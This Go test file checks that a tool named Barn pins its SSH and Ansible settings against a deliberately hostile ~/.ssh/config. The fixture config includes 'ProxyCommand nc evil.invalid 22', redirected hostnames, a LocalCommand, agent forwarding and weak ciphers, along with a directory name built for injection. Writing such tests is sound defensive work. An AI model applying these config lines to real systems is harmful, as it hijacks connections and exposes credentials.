package guest

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"barn.dev/lib/sshkeys"
)

// oddDir is a directory name with what breaks naive ssh_config, shell,
// YAML and Jinja2 writers: spaces, a comma, '#', both quotes, %-tokens,
// "{{", a backslash and non-ASCII text.
const oddDir = `barn home, #1 'q' "d" 100%h {{ x }} é\w`

// hostileConfig is a user's ~/.ssh/config that would redirect or break a
// Barn connection if the fragment left anything to it: top-level options
// (read before any Host block), a Host block for the lab's addresses and
// a catch-all that changes every option a user's config can change for a
// connection (addresses, known hosts, forwarding, local commands, session
// kind, authentication, algorithms the guest's sshd refuses). @DIR@ is a
// directory of the test's (writeHostileConfig).
const hostileConfig = `# my settings
ProxyJump toplevel.invalid
ControlMaster auto
ControlPath /tmp/cm-%C
ControlPersist 10m
IdentitiesOnly no
StrictHostKeyChecking yes
UserKnownHostsFile /tmp/evil_known_hosts
UpdateHostKeys yes
CheckHostIP yes

Host 10.10.10.* 127.0.0.1
  ProxyJump jump.invalid
  HostName evil.invalid
  Port 2200
  User evil
  IdentityFile /tmp/evil_key

Host *
  ProxyCommand nc evil.invalid 22
  User someone
  Port 2201
  HostKeyAlias evil-alias
  RemoteCommand echo hijacked
  KnownHostsCommand /bin/echo evil
  VerifyHostKeyDNS yes
  AddressFamily inet6
  BindAddress 192.0.2.1
  BindInterface barn-nonexistent0
  GlobalKnownHostsFile @DIR@/evil_global_known_hosts
  NoHostAuthenticationForLocalhost yes
  HashKnownHosts yes
  ForwardAgent yes
  ForwardX11 yes
  ForwardX11Trusted yes
  Tunnel yes
  PermitLocalCommand yes
  LocalCommand touch @DIR@/local-command-ran
  SessionType none
  RequestTTY force
  StdinNull yes
  ForkAfterAuthentication yes
  PubkeyAuthentication no
  PreferredAuthentications password
  GSSAPIAuthentication yes
  GSSAPIDelegateCredentials yes
  HostKeyAlgorithms ssh-rsa
  KexAlgorithms diffie-hellman-group14-sha1
  Ciphers aes128-cbc
  MACs hmac-sha1
  PubkeyAcceptedAlgorithms ssh-rsa

Host other
  HostName other.example
`

// TestFragmentPinsAgainstHostileConfig: after Install next to a hostile
// ~/.ssh/config, ssh -G gives every node (by name and alias) exactly Barn's
// values, keys under a directory with spaces, quotes and %-tokens included,
// while unrelated hosts keep the user's own settings.
func TestFragmentPinsAgainstHostileConfig(t *testing.T) {
	home := t.TempDir()
	p := Paths(home, "")
	_ = os.MkdirAll(p.Dir, 0o700)
	writeHostileConfig(t, p.Config, home)
	keys := sshkeys.Paths(filepath.Join(home, oddDir, "keys"))
	defaults := sshG(t, "-F", "/dev/null", "x")
	if _, err := Install(p, fragment(t, entries(2222, "dba", keys))); err != nil {
		t.Fatal(err)
	}
	for _, host := range []string{"meta", "pg-meta"} {
		g := sshG(t, "-F", p.Config, host)
		want := map[string]string{
			"hostname": "127.0.0.1", "port": "2222", "user": "dba",
			"identityfile":       strings.ReplaceAll(keys.PrivatePath, "%", "%%"), // ssh -G prints it before %-expansion
			"userknownhostsfile": keys.KnownHosts,
			"hostkeyalias":       sshkeys.HostKeyAlias(uuidA),
			"identitiesonly":     "yes", "stricthostkeychecking": "accept-new", "checkhostip": "no",
			"updatehostkeys": "false", "verifyhostkeydns": "false", "controlmaster": "false", "canonicalizehostname": "false",
			"addressfamily": "inet", "bindaddress": "127.0.0.1", "globalknownhostsfile": "none", "nohostauthenticationforlocalhost": "no",
			"hashknownhosts": "no", "forwardagent": "no", "forwardx11": "no", "forwardx11trusted": "no", "tunnel": "false",
			"permitlocalcommand": "no", "sessiontype": "default", "requesttty": "auto", "stdinnull": "no", "forkafterauthentication": "no",
			"pubkeyauthentication": "true", "preferredauthentications": "publickey", "gssapiauthentication": "no", "gssapidelegatecredentials": "no",
		}
		// the algorithm lists are ssh's own defaults, not the user's
		for _, k := range []string{"hostkeyalgorithms", "kexalgorithms", "ciphers", "macs", "pubkeyacceptedalgorithms"} {
			want[k] = defaults[k][0]
		}
		for k, v := range want {
			if got := g[k]; len(got) == 0 || got[0] != v {
				t.Errorf("ssh -G %s: %s = %q, want %q first", host, k, got, v)
			}
		}
		for _, k := range []string{"proxyjump", "proxycommand", "controlpath", "remotecommand", "knownhostscommand"} {
			if got, ok := g[k]; ok {
				t.Errorf("ssh -G %s: %s = %q, want it unset", host, k, got)
			}
		}
	}
	other := sshG(t, "-F", p.Config, "other")
	if other["hostname"][0] != "other.example" || other["user"][0] != "someone" || other["proxyjump"][0] != "toplevel.invalid" {
		t.Errorf("the user's own host lost its settings: %v", other)
	}
	if g := sshG(t, "-F", p.Config, "10.10.10.10"); g["hostname"][0] != "evil.invalid" {
		t.Errorf("the user's 10.10.10.* block no longer applies to plain ssh 10.10.10.10: %v", g["hostname"])
	}
}

// writeHostileConfig writes hostileConfig to path with @DIR@ = dir.
func writeHostileConfig(t *testing.T, path, dir string) {
	t.Helper()
	must(t, os.WriteFile(path, []byte(strings.ReplaceAll(hostileConfig, "@DIR@", dir)), 0o600))
}

// sshG runs ssh -G with args and returns its "key value" lines.
func sshG(t *testing.T, args ...string) map[string][]string {
	t.Helper()
	out, err := exec.Command("ssh", append([]string{"-G"}, args...)...).CombinedOutput()
	if err != nil {
		t.Fatalf("ssh -G %q: %v: %s", args, err, out)
	}
	m := map[string][]string{}
	for _, l := range strings.Split(string(out), "\n") {
		if k, v, ok := strings.Cut(l, " "); ok {
			m[k] = append(m[k], v)
		}
	}
	return m
}

// TestInstalledConfigReachesSSHDDespiteHostileConfig: with the hostile
// config around the fragment and the deployment key under an odd
// directory, `ssh meta` through ~/.ssh/config still logs in to the real
// server on 127.0.0.1 with Barn's key and records the host key in Barn's
// known_hosts under the alias, unhashed; a global known_hosts holding
// another key for the alias is not read, and the user's LocalCommand does
// not run.
func TestInstalledConfigReachesSSHDDespiteHostileConfig(t *testing.T) {
	s := startSSHDKeysAt(t, filepath.Join(oddDir, "keys"))
	home := t.TempDir()
	p := Paths(home, "")
	_ = os.MkdirAll(p.Dir, 0o700)
	writeHostileConfig(t, p.Config, home)
	// a global known_hosts with another key under the instance's alias
	other, _, _ := ed25519.GenerateKey(rand.Reader)
	otherKey, err := ssh.NewPublicKey(other)
	must(t, err)
	must(t, os.WriteFile(filepath.Join(home, "evil_global_known_hosts"), append([]byte(sshkeys.HostKeyAlias(uuidA)+" "), ssh.MarshalAuthorizedKey(otherKey)...), 0o600))
	if _, err := Install(p, fragment(t, entries(s.port, s.user, s.keys))); err != nil {
		t.Fatal(err)
	}
	code, o, errs := run(t, []string{"ssh", "-F", p.Config, "-o", "BatchMode=yes", "pg-meta", "echo", "hello"})
	if code != 0 || strings.TrimSpace(o) != "hello" {
		t.Fatalf("ssh -F config pg-meta: %d %q %s", code, o, errs)
	}
	if kh, err := os.ReadFile(s.keys.KnownHosts); err != nil || !strings.HasPrefix(string(kh), sshkeys.HostKeyAlias(uuidA)+" ") {
		t.Fatalf("known_hosts (unhashed, under the alias): %v %q", err, kh)
	}
	if _, err := os.Stat(filepath.Join(home, "local-command-ran")); !os.IsNotExist(err) {
		t.Fatalf("the user's LocalCommand ran for a Barn node: %v", err)
	}
}

// TestAnsibleExportIsReadByAnsible: ansible-inventory reads the export of
// hosts whose key and known_hosts sit under an odd directory ("{{" in it
// included) back to the exact values, and the ssh arguments, split as
// Ansible splits them (shlex), make ssh -G use exactly Barn's settings.
func TestAnsibleExportIsReadByAnsible(t *testing.T) {
	requireAnsible(t, "ansible-inventory")
	keys := sshkeys.Paths(filepath.Join(t.TempDir(), oddDir, "keys"))
	inv, err := RenderAnsibleInventory([]AnsibleHost{
		{Address: "10.10.10.10", User: "dba", IdentityFile: keys.PrivatePath, KnownHosts: keys.KnownHosts, HostKeyAlias: "barn-x"},
		{Address: "10.10.10.11", Host: "127.0.0.1", Port: 2223, User: "dba", IdentityFile: keys.PrivatePath, KnownHosts: keys.KnownHosts, HostKeyAlias: "barn-y"}})
	if err != nil {
		t.Fatal(err)
	}
	f := filepath.Join(t.TempDir(), "barn.yml")
	_ = os.WriteFile(f, inv, 0o600)
	if !strings.Contains(string(inv), `ansible_ssh_common_args: !unsafe "`) {
		t.Errorf("arguments with {{ are not marked !unsafe:\n%s", inv)
	}
	for _, c := range []struct{ addr, host, port, alias string }{{"10.10.10.10", "10.10.10.10", "22", "barn-x"}, {"10.10.10.11", "127.0.0.1", "2223", "barn-y"}} {
		cmd := exec.Command("ansible-inventory", "-i", f, "--host", c.addr)
		cmd.Env = append(os.Environ(), "ANSIBLE_LOCAL_TEMP="+t.TempDir(), "ANSIBLE_NOCOLOR=1")
		out, err := cmd.Output()
		if err != nil {
			t.Fatalf("ansible-inventory: %v\n%s", err, inv)
		}
		var vars struct {
			Host   string       `json:"ansible_host"`
			Port   int          `json:"ansible_port"`
			User   string       `json:"ansible_user"`
			Common ansibleValue `json:"ansible_ssh_common_args"`
		}
		if err := json.Unmarshal(out, &vars); err != nil {
			t.Fatal(err)
		}
		if vars.Host != c.host || strconv.Itoa(vars.Port) != c.port || vars.User != "dba" {
			t.Errorf("%s: %+v", c.addr, vars)
		}
		py, err := exec.Command("python3", "-c", "import json,shlex,sys; print(json.dumps([x.strip() for x in shlex.split(sys.argv[1]) if x.strip()]))", string(vars.Common)).Output()
		if err != nil {
			t.Fatal(err)
		}
		var words []string
		_ = json.Unmarshal(py, &words)
		// As Ansible runs ssh: its own User/Port first, then these words.
		g := sshG(t, append(append([]string{"-o", "User=dba", "-o", "Port=" + c.port}, words...), c.host)...)
		for k, v := range map[string]string{"hostname": c.host, "port": c.port, "user": "dba", "hostkeyalias": c.alias,
			"identityfile": strings.ReplaceAll(keys.PrivatePath, "%", "%%"), "userknownhostsfile": keys.KnownHosts,
			"identitiesonly": "yes", "stricthostkeychecking": "accept-new", "globalknownhostsfile": "none"} {
			if got := g[k]; len(got) == 0 || got[0] != v {
				t.Errorf("%s: ssh -G %s = %q, want %q", c.addr, k, got, v)
			}
		}
		for _, k := range []string{"proxyjump", "proxycommand"} {
			if got, ok := g[k]; ok {
				t.Errorf("%s: %s = %q, want it unset", c.addr, k, got)
			}
		}
	}
}

// ansibleValue is a string as ansible-inventory prints it: plain, or
// {"__ansible_unsafe": "..."} for a !unsafe one.
type ansibleValue string

func (v *ansibleValue) UnmarshalJSON(b []byte) error {
	var s string
	if json.Unmarshal(b, &s) == nil {
		*v = ansibleValue(s)
		return nil
	}
	var u struct {
		S string `json:"__ansible_unsafe"`
	}
	if err := json.Unmarshal(b, &u); err != nil {
		return err
	}
	*v = ansibleValue(u.S)
	return nil
}
